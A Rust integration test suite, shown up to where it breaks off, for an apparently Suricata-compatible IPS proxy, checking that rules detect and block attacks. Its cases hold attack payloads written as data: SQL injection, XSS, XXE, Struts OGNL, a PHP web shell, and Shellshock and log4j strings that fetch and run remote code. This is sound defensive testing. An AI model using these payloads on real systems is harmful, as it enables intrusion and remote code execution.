//! The IPS through the real binary: real ET Open rules on plain HTTP and decrypted HTTPS (request
//! and response buffers, pcre, TLS SNI), drop rules blocking, detect mode, clean traffic raising
//! nothing, live reload, and `sekisho rules check`.

#![allow(clippy::unwrap_used)]

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::path::PathBuf;
use std::process::Command;

use common::*;

const BROWSER: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";

/// An `[ips]` table over every ET Open rule file plus `extra_rules`: only called by tests that
/// checked `corpus("et-open")` first.
fn et_table(extra_rules: &[PathBuf], tail: &str) -> String {
    let mut rules = vec![corpora().join("et-open/*.rules").display().to_string()];
    rules.extend(extra_rules.iter().map(|p| p.display().to_string()));
    format!(
        "[ips]\nrules = {rules:?}\nclassification = {:?}\n{tail}\n",
        corpora()
            .join("et-open/classification.config")
            .display()
            .to_string()
    )
}

/// (url, extra curl args, SIDs that must fire, buffer of the first one, blocked?)
type Case = (String, Vec<String>, Vec<u32>, &'static str, bool);

fn files() -> Files {
    let mut f = Files::new();
    let html = |b: &str| {
        (
            vec![("content-type".to_string(), "text/html".to_string())],
            b.as_bytes().to_vec(),
        )
    };
    f.insert(
        "/cat.txt".into(),
        (
            vec![("content-type".into(), "text/plain".into())],
            b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\n"
                .to_vec(),
        ),
    );
    f.insert(
        "/x.php".into(),
        html("<html><body><?php eval(base64_decode($_POST['x'])); ?></body></html>"),
    );
    f.insert(
        "/update".into(),
        html("<html><body><iframe src=\"\"data:text/x-powershell;base64,SQBFAFgA\"></iframe></body></html>"),
    );
    f.insert(
        "/resp-test".into(),
        html("<p>SEKISHO-IPS-TEST-RESPONSE</p>"),
    );
    f.insert(
        "/index.html".into(),
        html("<html><head><title>Ward 3</title></head><body>Rounds at 9</body></html>"),
    );
    f.insert(
        "/api/claims".into(),
        (
            vec![("content-type".into(), "application/json".into())],
            br#"{"accepted":1}"#.to_vec(),
        ),
    );
    f
}

/// SIDs of IPS events about `url`.
/// Sends `raw` to the proxy as it is and reads the answer to its end (10 s at most).
async fn send_raw(proxy: std::net::SocketAddr, raw: &str) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(proxy).await.unwrap();
    s.write_all(raw.as_bytes()).await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(std::time::Duration::from_secs(10), s.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).into_owned()
}

/// A loopback origin that answers the first read of each of up to `conns` connections with
/// `answer(request)` as raw bytes, then closes it after a moment; its port.
async fn raw_origin(conns: usize, answer: fn(&str) -> Vec<u8>) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        for _ in 0..conns {
            let Ok((mut s, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                let mut buf = [0u8; 4096];
                let n = s.read(&mut buf).await.unwrap_or(0);
                let _ = s
                    .write_all(&answer(&String::from_utf8_lossy(&buf[..n])))
                    .await;
                let _ = s.flush().await;
                tokio::time::sleep(std::time::Duration::from_millis(100)).await;
            });
        }
    });
    port
}

fn sids_for(gw: &Gateway, url: &str) -> BTreeMap<u32, serde_json::Value> {
    gw.events()
        .into_iter()
        .filter(|v| v["rule"]["engine"] == "suricata" && v["http"]["url"] == url)
        .map(|v| {
            (
                u32::try_from(v["alert"]["signature_id"].as_u64().unwrap()).unwrap(),
                v,
            )
        })
        .collect()
}

/// A gateway in detect mode with `rules` (one file in a fresh folder, which the caller keeps
/// alive) and `extra` lines in its `[ips]` table.
fn detect_gateway(tag: &str, rules: &str, extra: &str) -> (TempDir, Gateway) {
    let dir = TempDir::new(tag);
    let file = dir.path().join("test.rules");
    std::fs::write(&file, rules).unwrap();
    let gw = Gateway::start(
        tag,
        "",
        &format!(
            "[ips]\nrules = [{:?}]\nmode = \"detect\"\n{extra}",
            file.display().to_string()
        ),
    );
    (dir, gw)
}

fn wait_sid(gw: &Gateway, sid: u32) -> serde_json::Value {
    gw.wait_line("events.jsonl", |v| {
        v["rule"]["engine"] == "suricata" && v["alert"]["signature_id"] == sid
    })
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn et_open_rules_fire_and_drop_rules_block_through_the_proxy() {
    if corpus("et-open").is_none() {
        return;
    }
    let pki = TestPki::new("Origin Test CA", &["localhost"]);
    let tls_origin = Origin::start_with_files(Some(pki.server_config()), files()).await;
    let plain_origin = Origin::start_with_files(None, files()).await;
    let roots = TempDir::new("ips-roots");
    std::fs::write(roots.path().join("ca.pem"), &pki.ca_pem).unwrap();
    // A certificate rule on the upstream's verified chain (the origin's leaf names localhost).
    let cert_rules = roots.path().join("cert.rules");
    std::fs::write(
        &cert_rules,
        "alert tls any any -> any any (msg:\"SEKISHO TEST upstream certificate\"; flow:to_client; tls.certs; content:\"localhost\"; sid:9300001; rev:1;)\n\
         alert tls any any -> any any (msg:\"SEKISHO TEST JA3 of the client\"; flow:to_server; ja3.string; content:\"771,\"; startswith; ja3.hash; bsize:32; sid:9300003; rev:1;)\n\
         drop http any any -> any any (msg:\"SEKISHO TEST request body drop\"; flow:to_server; http.request_body; content:\"SEKISHO-IPS-BODY-TEST\"; sid:9300004; rev:1;)\n\
         alert http any any -> any any (msg:\"SEKISHO TEST header case as sent\"; flow:to_server; http.header_names; content:\"|0d 0a|X-MiXeD-Case|0d 0a|\"; http.header.raw; content:\"X-MiXeD-Case:  spaced\"; sid:9300002; rev:1;)\n\
         alert tcp any any -> any any (msg:\"SEKISHO TEST tcp rule on the ClientHello records\"; flow:to_server; content:\"|16 03|\"; depth:2; content:\"api.1jve.com\"; sid:9300005; rev:1;)\n\
         alert tls any any -> any any (msg:\"SEKISHO TEST upstream SAN\"; flow:to_client; tls.subjectaltname; content:\"localhost\"; bsize:9; sid:9300006; rev:1;)\n\
         alert tls any any -> any any (msg:\"SEKISHO TEST JA4 of the client\"; flow:to_server; ja4.hash; content:\"t13d\"; startswith; bsize:36; sid:9300007; rev:1;)\n\
         alert tls any any -> any any (msg:\"SEKISHO TEST ALPN offered\"; flow:to_server; tls.alpn; content:\"http/1.1\"; bsize:8; sid:9300008; rev:1;)\n\
         alert tls any any -> any any (msg:\"SEKISHO TEST upstream certificate dates\"; tls_cert_valid; tls_cert_notbefore:<2000-01-01; sid:9300009; rev:1;)\n\
         alert tls any any -> any any (msg:\"SEKISHO TEST upstream certificate expired\"; tls_cert_expired; sid:9300010; rev:1;)\n\
         alert tls any any -> any any (msg:\"SEKISHO TEST client random\"; flow:to_server; tls.random; bsize:32; tls.random_bytes; bsize:28; sid:9300011; rev:1;)\n",
    )
    .unwrap();
    let gw = Gateway::start(
        "ips",
        &format!(
            "upstream_roots = [\"{}\"]",
            roots.path().join("ca.pem").display()
        ),
        &et_table(&[repo().join("rules/ips/sekisho.rules"), cert_rules], ""),
    );
    let ca = gw.ca_path();
    let https = |p: &str| format!("https://localhost:{}{p}", tls_origin.port);
    let http = |p: &str| format!("http://127.0.0.1:{}{p}", plain_origin.port);
    let proxy = gw.proxy_url();
    let fetch = |url: String, extra: Vec<String>| {
        let proxy = proxy.clone();
        let ca = ca.clone();
        async move {
            let mut args: Vec<String> = vec![
                "-x".into(),
                proxy,
                "--cacert".into(),
                ca.display().to_string(),
                "-w".into(),
                "\n%{http_code}".into(),
                // The CONNECT carries a browser agent: the attack is only in the decrypted request.
                "--proxy-header".into(),
                format!("User-Agent: {BROWSER}"),
            ];
            args.extend(extra);
            args.push(url);
            let a: Vec<&str> = args.iter().map(String::as_str).collect();
            curl(&a).await
        }
    };
    let ua = |s: &str| vec!["-A".to_string(), s.to_string()];

    // (url, extra curl args, SIDs that must fire, buffer of the first one, blocked?)
    let cases: Vec<Case> = vec![
        (https("/download?file=../../../../etc/passwd"), ua(BROWSER), vec![2049400], "http.uri", false),
        (http("/hello"), ua("python-requests/2.31.0"), vec![2017515], "http.user_agent", false),
        (https("/hello"), ua("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"), vec![2017615, 2017616], "http.user_agent", false),
        (https("/hello"), ua("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"), vec![2009358, 2024364], "http.user_agent", false),
        (https("/cat.txt"), ua(BROWSER), vec![2002034, 2025879], "file.data", false),
        (https("/x.php"), ua(BROWSER), vec![2017399], "file.data", false),
        (https("/update"), ua(BROWSER), vec![2037887], "http.response_body", false),
        (https("/index.php?id=1%20UNION%20SELECT%201,2,concat(user(),0x3a,version())--%20-"), ua(BROWSER), vec![2006446, 2011037, 2011042], "http.uri", false),
        (http("/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"), ua(BROWSER), vec![2009714], "http.uri", false),
        (https("/index.php?page=php://filter/convert.base64-encode/resource=index"), ua(BROWSER), vec![2013001], "http.uri", false),
        (https("/.env"), ua(BROWSER), vec![2031502], "http.uri", false),
        (
            https("/struts2-showcase/index.action"),
            [ua(BROWSER), vec!["-H".into(), "Content-Type: %{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id')}".into()]].concat(),
            vec![2024045],
            "http.header",
            false,
        ),
        (
            // The origin answers 404 without reading the upload: the IPS still sees all of it.
            https("/xmlrpc.php"),
            [ua(BROWSER), vec!["-H".into(), "Content-Type: application/xml".into(), "--data-binary".into(),
                "<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>".into()]].concat(),
            vec![2018056, 2025877, 9100020],
            "http.request_body",
            false,
        ),
        // Shellshock: ET alerts, our drop rule blocks.
        (https("/cgi-bin/status"), ua("() { :; }; /bin/bash -c 'wget http://203.0.113.9/x.sh -O- | sh'"), vec![2019232, 9100012], "http.header", true),
        // log4j in a header over plain HTTP: ET alert (raw stream) and our drop rule.
        (http("/hello"), [ua(BROWSER), vec!["-H".into(), "X-Api-Version: ${jndi:ldap://203.0.113.7:1389/a}".into()]].concat(), vec![2034647, 9100010], "pkt_data", true),
        (https("/sekisho-ips-test-block"), ua(BROWSER), vec![9100001], "http.uri", true),
        // A drop rule on the upload: judged before anything goes upstream, so a block page.
        (
            https("/not-reading"),
            [ua(BROWSER), vec!["--data-binary".into(), format!("a=1&b={}SEKISHO-IPS-BODY-TEST", "x".repeat(5000))]].concat(),
            vec![9300004],
            "http.request_body",
            true,
        ),
        (
            http("/not-reading"),
            [ua(BROWSER), vec!["--data-binary".into(), "SEKISHO-IPS-BODY-TEST".into()]].concat(),
            vec![9300004],
            "http.request_body",
            true,
        ),
        // The raw head keeps header case and spacing (HTTP/1, plain and decrypted).
        (http("/raw"), [ua(BROWSER), vec!["-H".into(), "X-MiXeD-Case:  spaced".into()]].concat(), vec![9300002], "http.header.raw", false),
        (https("/raw"), [ua(BROWSER), vec!["--http1.1".into(), "-H".into(), "X-MiXeD-Case:  spaced".into()]].concat(), vec![9300002], "http.header.raw", false),
    ];
    let mut all = BTreeSet::new();
    for (url, extra, want, location, blocked) in &cases {
        let r = fetch(url.clone(), extra.clone()).await;
        assert_eq!(r.code, 0, "{url}: {}", r.stderr);
        for sid in want {
            wait_sid(&gw, *sid);
        }
        let got = sids_for(&gw, url);
        for sid in want {
            assert!(
                got.contains_key(sid),
                "{url}: sid {sid} missing; got {:?}",
                got.keys()
            );
        }
        let first = &got[&want[0]];
        assert_eq!(first["evidence"]["location"], *location, "{url}: {first:#}");
        assert_eq!(first["alert"]["gid"], 1);
        assert!(first["alert"]["rev"].as_u64().unwrap() >= 1);
        assert!(!first["alert"]["category"].as_str().unwrap().is_empty());
        assert!(first["rule"]["source_file"]
            .as_str()
            .unwrap()
            .ends_with(".rules"));
        if *blocked {
            assert!(
                r.stdout.ends_with("\n403"),
                "{url} must be blocked: {}",
                r.stdout
            );
            let dropper = got
                .values()
                .find(|v| v["alert"]["rule_action"] == "drop")
                .unwrap();
            assert_eq!(dropper["alert"]["action"], "blocked");
            assert!(
                r.stdout.contains(dropper["event"]["id"].as_str().unwrap()),
                "block page names the event"
            );
        } else {
            assert!(
                !r.stdout.ends_with("\n403"),
                "{url} must pass: {}",
                r.stdout
            );
            assert_eq!(first["alert"]["action"], "allowed");
            assert_eq!(first["alert"]["rule_action"], "alert");
        }
        if url.starts_with("https") {
            assert_eq!(first["tls"]["decrypted"], true);
        }
        all.extend(want.iter().copied());
    }
    // JA3 computed from the real ClientHello bytes the proxy peeked.
    let ja3 = wait_sid(&gw, 9300003);
    assert_eq!(ja3["evidence"]["location"], "ja3.hash");
    assert_eq!(ja3["evidence"]["excerpt"].as_str().unwrap().len(), 32);
    let cert = wait_sid(&gw, 9300001);
    assert_eq!(cert["evidence"]["location"], "tls.certs");
    let san = wait_sid(&gw, 9300006);
    assert_eq!(san["evidence"]["location"], "tls.subjectaltname");
    let ja4 = wait_sid(&gw, 9300007);
    assert_eq!(ja4["evidence"]["location"], "ja4.hash");
    let alpn = wait_sid(&gw, 9300008);
    assert_eq!(alpn["evidence"]["excerpt"], "http/1.1");
    // The origin's certificate (rcgen's default dates: 1975 to 4096) is valid, not expired.
    let random = wait_sid(&gw, 9300011);
    assert_eq!(random["evidence"]["location"], "tls.random_bytes");
    let dates = wait_sid(&gw, 9300009);
    assert_eq!(dates["tls"]["decrypted"], true);
    let expired = gw
        .events()
        .iter()
        .filter(|v| v["alert"]["signature_id"] == 9300010)
        .count();
    assert_eq!(expired, 0, "a valid certificate matched tls_cert_expired");
    let et: BTreeSet<_> = all.iter().filter(|s| **s < 9_000_000).collect();
    assert!(et.len() >= 20, "only {} ET SIDs fired: {et:?}", et.len());

    // A drop rule on the response body: the client never gets the marker.
    let r = fetch(https("/resp-test"), ua(BROWSER)).await;
    assert!(
        !r.stdout.contains("SEKISHO-IPS-TEST-RESPONSE"),
        "{}",
        r.stdout
    );
    let ev = wait_sid(&gw, 9100002);
    assert_eq!(ev["alert"]["action"], "blocked");
    assert_eq!(ev["evidence"]["location"], "file.data");

    // TLS SNI, before any request: a real ET SID, and a drop rule refusing the tunnel.
    let ca_pem = std::fs::read_to_string(&ca).unwrap();
    let s = connect_tunnel(gw.proxy, &format!("localhost:{}", tls_origin.port)).await;
    let _ = tls_peer_chain(s, "api.1jve.com", &ca_pem).await;
    let ev = wait_sid(&gw, 2026116);
    assert_eq!(ev["evidence"]["location"], "tls.sni");
    assert_eq!(ev["tls"]["sni"], "api.1jve.com");
    // A tcp rule reads the same ClientHello as raw stream bytes, as Suricata's does.
    assert_eq!(wait_sid(&gw, 9300005)["tls"]["sni"], "api.1jve.com");
    let s = connect_tunnel(gw.proxy, &format!("localhost:{}", tls_origin.port)).await;
    let _ = tls_peer_chain(s, "ips-test-block.invalid", &ca_pem).await;
    assert_eq!(wait_sid(&gw, 9100003)["alert"]["action"], "blocked");

    // Clean traffic: nothing from the IPS.
    let before = gw.events().len();
    let clean = vec![
        (https("/index.html"), ua(BROWSER)),
        (http("/index.html"), ua(BROWSER)),
        (
            https("/api/claims"),
            [
                ua(BROWSER),
                vec![
                    "-H".into(),
                    "Content-Type: application/json".into(),
                    "--data-binary".into(),
                    r#"{"facility":"F-0042","claims":[{"code":"A123","amount":1200}]}"#.into(),
                ],
            ]
            .concat(),
        ),
        (
            https("/hello?from=2026-01-01&to=2026-11-25"),
            [
                ua(BROWSER),
                vec![
                    "-H".into(),
                    "Cookie: sid=8f14e45fceea167a5a36dedd4bea2543".into(),
                ],
            ]
            .concat(),
        ),
        (https("/bytes/300000"), ua(BROWSER)),
    ];
    for (url, extra) in clean {
        let r = fetch(url.clone(), extra).await;
        assert_eq!(r.code, 0, "{url}: {}", r.stderr);
        assert!(!r.stdout.ends_with("\n403"), "{url}");
    }
    // The last clean flow is logged once its response ended; then no new IPS event may exist.
    gw.wait_line("flows.jsonl", |v| v["path"] == "/bytes/300000");
    let new: Vec<_> = gw.events()[before..]
        .iter()
        // The certificate test rules match every connection to this origin by design.
        .filter(|v| {
            v["rule"]["engine"] == "suricata"
                && !matches!(
                    v["alert"]["signature_id"].as_u64(),
                    Some(9300001 | 9300003 | 9300006 | 9300007 | 9300008 | 9300009 | 9300011)
                )
        })
        .map(|v| {
            (
                v["alert"]["signature_id"].clone(),
                v["alert"]["signature"].clone(),
                v["http"]["url"].clone(),
            )
        })
        .collect();
    assert!(new.is_empty(), "clean traffic raised {new:?}");
    gw.assert_metrics(&["sekisho_ips_rules_loaded", "sekisho_ips_matches_total"])
        .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn detect_mode_and_live_reload_keep_a_working_set() {
    let origin = Origin::start(None).await;
    let dir = TempDir::new("ips-reload");
    let rules = dir.path().join("local.rules");
    let base = std::fs::read_to_string(repo().join("rules/ips/sekisho.rules")).unwrap();
    std::fs::write(&rules, &base).unwrap();
    let gw = Gateway::start(
        "ips-detect",
        "",
        &format!(
            "[ips]\nrules = [{:?}]\nclassification = {:?}\nmode = \"detect\"\n",
            rules.display().to_string(),
            repo()
                .join("rules/ips/classification.config")
                .display()
                .to_string()
        ),
    );
    let get = |path: &str| {
        let url = format!("http://127.0.0.1:{}{path}", origin.port);
        let proxy = gw.proxy_url();
        async move { curl(&["-x", &proxy, "-w", "\n%{http_code}", &url]).await }
    };
    let r = get("/sekisho-ips-test-block").await;
    assert!(
        r.stdout.ends_with("\n404"),
        "detect mode passes: {}",
        r.stdout
    );
    assert_eq!(wait_sid(&gw, 9100001)["alert"]["action"], "detected");

    // A broken file: the running set stays, the log names file, line and SID.
    std::fs::write(
        &rules,
        format!(
            "{base}\nalert http any any -> any any (msg:\"broken\"; content:\"x; sid:9200002;)\n"
        ),
    )
    .unwrap();
    gw.reload();
    let log = gw.wait_reload_failure();
    assert!(
        log.contains("local.rules:") && log.contains("9200002"),
        "{log}"
    );
    let r = get("/sekisho-ips-test-block?again").await;
    assert!(r.stdout.ends_with("\n404"));
    gw.wait_line("events.jsonl", |v| {
        v["alert"]["signature_id"] == 9100001
            && v["http"]["url"].as_str().unwrap().ends_with("?again")
    });
    // A good file with a new rule: swapped in.
    std::fs::write(
        &rules,
        format!("{base}\nalert http any any -> any any (msg:\"SEKISHO TEST new rule\"; flow:to_server; http.uri; content:\"/new-rule\"; sid:9200001; rev:1;)\n"),
    )
    .unwrap();
    gw.reload();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let _ = get("/new-rule").await;
        if gw
            .events()
            .iter()
            .any(|v| v["alert"]["signature_id"] == 9200001)
        {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "the new rule never fired"
        );
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
}

#[test]
fn rules_check_reports_loaded_skipped_and_broken_rules() {
    if corpus("et-open").is_none() {
        return;
    }
    let dir = TempDir::new("ips-check");
    let cfg = dir.path().join("et.toml");
    std::fs::write(&cfg, et_table(&[], "")).unwrap();
    let out = Command::new(bin())
        .args(["rules", "check", "--config"])
        .arg(&cfg)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{text}{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let skipped: Vec<&str> = text
        .lines()
        .filter(|l| l.contains("skipped") || l.contains("unsupported"))
        .collect();
    assert!(skipped.len() > 100);
    assert!(skipped
        .iter()
        .all(|l| l.contains("skipped: unsupported keyword")));
    assert!(
        skipped.iter().all(|l| l.contains(": sid ")),
        "every skipped line names its SID"
    );
    assert!(text.contains("unsupported keyword tag"));
    let total = text.lines().find(|l| l.starts_with("total: ")).unwrap();
    let loaded: usize = total.split_whitespace().nth(1).unwrap().parse().unwrap();
    assert!(loaded > 20_000, "{total}");

    // A file with a broken rule between good ones: named with file:line and SID, the rest loads,
    // exit status 1.
    let rules = dir.path().join("mixed.rules");
    std::fs::write(
        &rules,
        "alert http any any -> any any (msg:\"a\"; http.uri; content:\"/a\"; sid:1; rev:1;)\n\
         alert http any any -> any any (msg:\"b\"; http.uri; content:\"|zz|\"; sid:2; rev:1;)\n\
         alert http any any -> any any (msg:\"c\"; pcre:\"/(unclosed/U\"; sid:3; rev:1;)\n\
         alert http any any -> any any (msg:\"d\"; tag:session,10,packets; sid:4; rev:1;)\n\
         alert http any any -> any any (msg:\"e\"; http.host; content:\"e.test\"; bsize:6; sid:5; rev:1;)\n",
    )
    .unwrap();
    let cfg2 = dir.path().join("mixed.toml");
    std::fs::write(
        &cfg2,
        format!("[ips]\nrules = [{:?}]\n", rules.display().to_string()),
    )
    .unwrap();
    let out = Command::new(bin())
        .args(["rules", "check", "--config"])
        .arg(&cfg2)
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert_eq!(out.status.code(), Some(1), "{text}");
    assert!(
        text.contains("mixed.rules:2: sid 2: syntax error: content: bad hex digit"),
        "{text}"
    );
    assert!(
        text.contains("mixed.rules:3: sid 3: syntax error: pcre"),
        "{text}"
    );
    assert!(
        text.contains("mixed.rules:4: sid 4 skipped: unsupported keyword tag"),
        "{text}"
    );
    assert!(text.contains("2 loaded, 1 not run, 2 broken"), "{text}");
}

/// Transformations (Suricata 8's "Transformations" page) through the real proxy: each rule
/// fires on the request built for it and stays silent on its near miss; the event names the
/// chain that ran.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn transforms_fire_through_the_proxy() {
    let mut files = Files::new();
    let mut exe = b"MZ".to_vec();
    exe.extend(std::iter::repeat_n(b'x', 100));
    files.insert("/dl/tool.exe".into(), (vec![], exe));
    files.insert(
        "/report".into(),
        (
            vec![(
                "content-disposition".into(),
                "attachment; filename=\"report.pdf\"".into(),
            )],
            b"MZabc".to_vec(),
        ),
    );
    files.insert(
        "/papers/a.bin".into(),
        (
            vec![],
            b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n".to_vec(),
        ),
    );
    let origin = Origin::start_with_files(None, files).await;
    let dir = TempDir::new("ips-xform");
    // md5("MZabc"), as `md5sum` prints it.
    let md5 = {
        use md5::Digest as _;
        hex::encode(md5::Md5::digest(b"MZabc"))
    };
    std::fs::write(
        dir.path().join("bad.md5"),
        format!("# known bad\n{md5}  report.pdf\n"),
    )
    .unwrap();
    let rules = dir.path().join("xform.rules");
    let digest = {
        use sha2::Digest as _;
        hex::encode(sha2::Sha256::digest(b"/hash-me"))
    };
    std::fs::write(
        &rules,
        format!(
            "alert http any any -> any any (msg:\"xform lower\"; http.uri; to_lowercase; content:\"/admin/login\"; sid:9400001; rev:1;)\n\
             alert http any any -> any any (msg:\"xform b64 arg\"; http.uri.raw; pcrexform:\"d=([^&]+)\"; from_base64; content:\"cmd.exe\"; sid:9400002; rev:1;)\n\
             alert http any any -> any any (msg:\"xform sha256\"; http.uri.raw; to_sha256; content:\"|{digest}|\"; sid:9400003; rev:1;)\n\
             alert http any any -> any any (msg:\"xform xor body\"; http.request_body; xor:\"0d0ac8ff\"; content:\"password=\"; sid:9400004; rev:1;)\n\
             alert http any any -> any any (msg:\"xform gunzip body\"; http.request_body; gunzip; content:\"secret-plan\"; sid:9400005; rev:1;)\n\
             alert http any any -> any any (msg:\"xform ua\"; http.user_agent; compress_whitespace; content:\"Foo Bar\"; sid:9400006; rev:1;)\n\
             alert http any any -> any any (msg:\"raw target\"; http.uri.raw; content:\"q=<script>\"; sid:9400007; rev:1;)\n\
             alert http any any -> any any (msg:\"one header\"; http.request_header; content:\"X-Probe: yes\"; bsize:12; sid:9400008; rev:1;)\n\
             alert http any any -> any any (msg:\"no user agent\"; http.uri; content:\"/noua\"; http.user_agent; absent; sid:9400009; rev:1;)\n\
             alert http any any -> any any (msg:\"basic auth admin\"; http.header; content:\"Authorization|3a 20|Basic \"; base64_decode:relative; base64_data; content:\"admin:\"; startswith; sid:9400010; rev:1;)\n\
             alert http any any -> any any (msg:\"xbits mark\"; http.uri; content:\"/xb-mark\"; xbits:set,xbm,track ip_src,expire 60; noalert; sid:9400011; rev:1;)\n\
             alert http any any -> any any (msg:\"xbits marked host\"; http.uri; content:\"/xb-check\"; xbits:isset,xbm,track ip_src; sid:9400012; rev:1;)\n\
             alert http any any => any any (msg:\"request and its 404\"; http.uri; content:\"/both-\"; http.stat_code; content:\"404\"; sid:9400013; rev:1;)\n\
             alert http any any -> any any (msg:\"exe download\"; flow:to_client; fileext:\"exe\"; filesize:>10; sid:9400014; rev:1;)\n\
             alert http any any -> any any (msg:\"known bad file\"; flow:to_client; filemd5:bad.md5; sid:9400015; rev:1;)\n\
             alert http any any -> any any (msg:\"pdf by content\"; flow:to_client; file.magic; content:\"PDF document\"; sid:9400016; rev:1;)\n"
        ),
    )
    .unwrap();
    let gw = Gateway::start(
        "ips-xform",
        "",
        &format!(
            "[ips]\nrules = [{:?}]\nmode = \"detect\"\n",
            rules.display().to_string()
        ),
    );
    let base = format!("http://127.0.0.1:{}", origin.port);
    let proxy = gw.proxy_url();
    let key = [0x0du8, 0x0a, 0xc8, 0xff];
    let xored: Vec<u8> = b"password=hunter2"
        .iter()
        .zip(key.iter().cycle())
        .map(|(b, k)| b ^ k)
        .collect();
    let gz = {
        use std::io::Write as _;
        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        e.write_all(b"the secret-plan is here").unwrap();
        e.finish().unwrap()
    };
    let (xor_f, plain_f, gz_f) = (
        dir.path().join("xor"),
        dir.path().join("plain"),
        dir.path().join("gz"),
    );
    std::fs::write(&xor_f, &xored).unwrap();
    std::fs::write(&plain_f, b"password=hunter2").unwrap();
    std::fs::write(&gz_f, &gz).unwrap();
    let post = |f: &std::path::Path| {
        vec![
            "-H".to_string(),
            "Content-Type: application/octet-stream".to_string(),
            "--data-binary".to_string(),
            format!("@{}", f.display()),
        ]
    };
    // (path, extra curl args, the sid it must raise, or 0 for none of this test's sids)
    let cases: Vec<(&str, Vec<String>, u32)> = vec![
        ("/ADMIN/Login", vec![], 9400001),
        ("/admin/logout", vec![], 0),
        ("/run?d=Y21kLmV4ZQ==&z=1", vec![], 9400002),
        ("/run?d=bm90ZXBhZA==&z=1", vec![], 0),
        ("/hash-me", vec![], 9400003),
        ("/hash-me-not", vec![], 0),
        ("/xor", post(&xor_f), 9400004),
        ("/plain", post(&plain_f), 0),
        ("/gz", post(&gz_f), 9400005),
        ("/ua", vec!["-A".into(), "Foo \t  Bar/1.0".into()], 9400006),
        ("/ua-plain", vec!["-A".into(), "FooBar/1.0".into()], 0),
        ("/raw?q=<script>", vec!["-g".into()], 9400007),
        ("/probe", vec!["-H".into(), "X-Probe: yes".into()], 9400008),
        ("/probe2", vec!["-H".into(), "X-Probe: yes!".into()], 0),
        ("/noua", vec!["-H".into(), "User-Agent:".into()], 9400009),
        ("/noua?with", vec![], 0),
        ("/auth-bob", vec!["-u".into(), "bob:x".into()], 0),
        ("/auth", vec!["-u".into(), "admin:secret".into()], 9400010),
        // xbits across connections of one client host: unmarked, marked (noalert), seen.
        ("/xb-check-early", vec![], 0),
        ("/xb-mark", vec![], 0),
        ("/xb-check", vec![], 9400012),
        // `=>`: the request's URI and the response's status together (the origin answers 404
        // for unknown paths, 200 for /hello).
        ("/hello?x=/both-", vec![], 0),
        ("/both-x", vec![], 9400013),
        // Files: the name from the URI path (an .exe over 10 bytes), a Content-Disposition
        // name (report.pdf: not .exe) whose MD5 is in the list.
        ("/dl/tool.exe", vec![], 9400014),
        ("/report", vec![], 9400015),
        // libmagic names a PDF whatever its name.
        ("/papers/a.bin", vec![], 9400016),
    ];
    for (path, extra, _) in &cases {
        let url = format!("{base}{path}");
        let mut args: Vec<&str> = vec!["-x", &proxy, "-o", "/dev/null"];
        args.extend(extra.iter().map(String::as_str));
        args.push(&url);
        let r = curl(&args).await;
        assert_eq!(r.code, 0, "{path}: {}", r.stderr);
    }
    // The last matching case's event is written: every earlier one is too.
    wait_sid(&gw, 9400016);
    for (path, _, sid) in &cases {
        // Events carry the URL as routed (raw `<` `>` percent-encoded by the listener).
        let url = format!("{base}{}", path.replace('<', "%3C").replace('>', "%3E"));
        let got: BTreeSet<u32> = sids_for(&gw, &url)
            .into_keys()
            .filter(|s| (9400001..=9400016).contains(s))
            .collect();
        let want: BTreeSet<u32> = (*sid != 0).then_some(*sid).into_iter().collect();
        assert_eq!(got, want, "{path}");
    }
    let e = &sids_for(&gw, &format!("{base}/run?d=Y21kLmV4ZQ==&z=1"))[&9400002];
    assert_eq!(
        e["evidence"]["transforms"],
        serde_json::json!(["pcrexform", "from_base64"]),
        "{e}"
    );
}

/// Datasets through the gateway: `set` learns each User-Agent once, `isset` reads it, a
/// `load` list is read again on SIGHUP while the learned set survives the reload, and the
/// learned set is written to its `state` file under `[ips] data_dir` when the gateway stops.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn datasets_learn_survive_reloads_and_are_saved() {
    use base64::Engine as _;
    let b64 = |s: &str| base64::engine::general_purpose::STANDARD.encode(s);
    let origin = Origin::start(None).await;
    let dir = TempDir::new("ips-datasets");
    let (rules, list) = (
        dir.path().join("ds.rules"),
        dir.path().join("bad-paths.lst"),
    );
    std::fs::write(&list, format!("{}\n", b64("/blocked-1"))).unwrap();
    std::fs::write(
        &rules,
        "alert http any any -> any any (msg:\"new UA\"; http.user_agent; dataset:set,ua-seen,type string,state ua-seen.csv; sid:9400101; rev:1;)\n\
